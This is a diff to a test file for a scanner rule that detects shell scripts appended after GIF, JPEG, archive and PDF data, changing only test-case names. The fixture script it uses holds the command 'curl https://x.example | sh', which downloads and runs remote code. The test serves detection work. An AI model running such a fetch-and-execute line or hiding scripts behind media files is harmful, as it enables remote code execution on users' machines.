@@ -9,10 +9,10 @@ const script = Buffer.from('\n#!/bin/sh\ncurl https://x.example | sh\n');
 
 ruleCases(trailingData, {
   hits: [
-    { name: 'a script behind a GIF', path: 'a.gif', bytes: Buffer.concat([gif, script]) },
-    { name: 'a script behind a JPEG', path: 'a.jpg', bytes: Buffer.concat([jpeg, script]) },
-    { name: 'a script behind an archive', path: 'a.zip', bytes: Buffer.concat([zip, script]) },
-    { name: 'a script behind a PDF', path: 'a.pdf', bytes: Buffer.concat([pdf, script]) },
+    { name: 'a script after a GIF', path: 'a.gif', bytes: Buffer.concat([gif, script]) },
+    { name: 'a script after a JPEG', path: 'a.jpg', bytes: Buffer.concat([jpeg, script]) },
+    { name: 'a script after an archive', path: 'a.zip', bytes: Buffer.concat([zip, script]) },
+    { name: 'a script after a PDF', path: 'a.pdf', bytes: Buffer.concat([pdf, script]) },
   ],
   misses: [
     { name: 'padding', path: 'a.gif', bytes: Buffer.concat([gif, Buffer.alloc(64)]) },
@@ -22,6 +22,6 @@ ruleCases(trailingData, {
       bytes: Buffer.concat([jpeg, Buffer.from('\0\0\0\x18ftypmp42 and so on and on')]),
     },
     // As in anthropics/skills, skills/theme-factory (Apache-2.0): it ends with a line end.
-    { name: 'a document that ends as most do', path: 'a.pdf', bytes: pdf },
+    { name: 'a document with a usual end', path: 'a.pdf', bytes: pdf },
   ],
 });
